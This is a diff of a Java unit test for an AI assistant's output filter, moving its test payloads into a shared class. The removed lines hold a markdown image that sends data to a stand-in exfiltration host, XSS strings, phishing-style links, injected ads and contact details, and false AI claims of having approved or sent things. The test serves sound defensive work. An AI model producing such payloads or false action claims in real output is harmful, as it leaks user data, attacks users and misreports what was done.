@@ -6,7 +6,7 @@ import com.journeyassistant.generation.OutputPolicy.Rule;
 import com.journeyassistant.generation.OutputPolicy.Violation;
 import java.math.BigDecimal;
 import java.util.List;
-import java.util.Map;
+import com.journeyassistant.support.Payloads;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -30,56 +30,9 @@ class OutputPolicyTest {
     private static final String BEFORE_EN = "Your order is in and we will tell you when the courier arrives. ";
     private static final String AFTER_EN = " Thank you for riding with us.";
 
-    private static final Map<Rule, List<String>> PAYLOADS = Map.of(
-            Rule.LINK, List.of(
-                    "Bekijk ![logo](//exfil.example.xyz/p?d=bestelling) nu.",
-                    "Kijk op [onze site](https://evil.example.com/login) voor meer.",
-                    "Ga naar fietsdeal-actie.xyz voor meer.",
-                    "Visit www.shoplux.com for exclusive watches.",
-                    "Open http://192.168.1.7/x in je browser.",
-                    "See //cdn.evil.io/pixel.gif for details.",
-                    "Klik op javascript:alert(1) om door te gaan.",
-                    "Surf naar shoplux[.]com voor details.",
-                    "Ga naar shoplux dot com voor details.",
-                    "Meer op bit.ly/3xYz of t.co/abc.",
-                    "Zie https://trapkracht.nl/bestelling?d=geheim voor je status."),
-            Rule.MARKUP, List.of(
-                    "Bekijk <img src=x onerror=alert(1)> je bestelling.",
-                    "<script>fetch('/api')</script> Your order is ready.",
-                    "Klik <a href=\"#\">hier</a> om te bevestigen."),
-            Rule.CONTACT, List.of(
-                    "Mail ons op hulp@shoplux.com voor vragen.",
-                    "Bel 06-12345678 voor de actie.",
-                    "Call +44 20 7946 0958 today.",
-                    "Maak het bedrag over naar NL91 ABNA 0417 1643 00 vandaag."),
-            Rule.OFFER, List.of(
-                    "Iedereen krijgt gratis onderhoud voor altijd.",
-                    "Order today and get a free e-bike.",
-                    "Nu met zeventig procent korting op alles.",
-                    "Get 20% off your first order.",
-                    "Gebruik kortingscode FIETS10 bij het afrekenen.",
-                    "Claim your voucher before Friday.",
-                    "Don't miss our exclusive deals on helmets.",
-                    "Alleen deze week: 1+1 gratis op banden.",
-                    "Special offer for new riders.",
-                    "Profiteer van de uitverkoop van deze week.",
-                    "Shop the sale while it lasts."),
-            Rule.BRAND, List.of(
-                    "Bestel nu bij ShopLux™ voor de beste prijs.",
-                    "Check out BikeDealz for cheaper bikes.",
-                    "Enhance your ride with the newsletter of Brand A.",
-                    "Vergelijk ons met Fietsenwinkel Noord als je twijfelt."),
-            Rule.FIGURE, List.of(
-                    "Maar liefst 312% meer klanten koos voor ons.",
-                    "9 op de 10 klanten raadt ons aan.",
-                    "Rated 4.8/5 by our riders.",
-                    "Onze NPS van 72 zegt genoeg.",
-                    "Zeventig procent van de klanten bestelt opnieuw.",
-                    "Nine out of ten riders come back."));
-
     @Test
     void everyPayloadIsFoundUnderItsRuleAndCutWithItsSentence() {
-        PAYLOADS.forEach((rule, payloads) -> {
+        Payloads.BY_RULE.forEach((rule, payloads) -> {
             for (String payload : payloads) {
                 for (String[] frame : List.of(new String[] {BEFORE_NL, AFTER_NL}, new String[] {BEFORE_EN, AFTER_EN})) {
                     String text = frame[0] + payload + frame[1];
@@ -95,15 +48,7 @@ class OutputPolicyTest {
 
     @Test
     void actionClaimsAreRefusedInChatButTheProposalItselfMayBeMentioned() {
-        List<String> claims = List.of(
-                "Ik heb alle openstaande suggesties al geaccepteerd.",
-                "Ik heb de nieuwe persona aan de kaart toegevoegd.",
-                "I've sent the email to all customers.",
-                "I have approved the three variants.",
-                "De suggesties zijn nu allemaal goedgekeurd.",
-                "The opportunity has already been created on your map.",
-                "We hebben de campagne gepubliceerd.");
-        for (String claim : claims) {
+        for (String claim : Payloads.ACTION_CLAIMS) {
             String text = "Klanten twijfelen na het betalen. " + claim + " Bevestig als je wilt.";
             List<Violation> violations = OutputPolicy.check("the answer", text, CHAT);
             assertThat(violations).as(claim).extracting(Violation::rule).containsExactly(Rule.ACTION_CLAIM);
